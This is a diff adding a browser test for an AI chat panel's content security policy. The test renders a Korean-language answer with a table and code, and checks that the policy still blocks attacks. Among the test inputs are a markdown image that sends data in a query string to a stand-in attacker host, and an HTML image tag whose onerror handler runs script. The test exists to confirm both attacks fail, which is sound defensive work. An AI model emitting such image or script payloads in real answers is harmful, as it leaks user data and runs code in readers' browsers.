@@ -115,6 +115,21 @@ describe('the chat webview in a real browser', () => {
     }
   });
 
+  it('runs under the production CSP: answers render, and only a remote image is refused', async () => {
+    const view = await openWebview(browser, undefined, { csp: true });
+    await view.host(init());
+    const answer = ['## 표와 코드', '', '| a | b |', '|---|---|', '| 1 | 2 |', '', '```ts', 'const x: number = 1;', '```', '', '- [링크](https://genos.example.com) 와 [메일](mailto:dev@example.com)', '', '![원격](https://attacker.example/p.png?c=code)', '', '<img src=x onerror="window.__pwned=1">'].join('\n');
+    await view.host({ type: 'turnStarted', turn: turn('c1') });
+    await view.host({ type: 'delta', requestId: 'c1', content: answer, reasoning: '' });
+    await view.host({ type: 'turnDone', requestId: 'c1', status: 'done' });
+    await view.page.locator('.turn[data-id="c1"] .content pre code .hljs-keyword, .turn[data-id="c1"] .content pre code span').first().waitFor();
+    await view.page.locator('.turn[data-id="c1"] .content table').waitFor();
+    const violations = await view.page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
+    assert.deepEqual(violations.filter((v) => !/^img-src https:\/\/attacker\.example/.test(v)), [], 'no script, style or font was refused: the panel works under its policy');
+    assert.equal(await view.page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined);
+    await view.page.close();
+  });
+
   it('warms up while it waits for the host, without errors and without leaving anything behind', async () => {
     // No init: the host has not answered yet when the panel is idle (a slow window, a busy host).
     const view = await openWebview(browser);
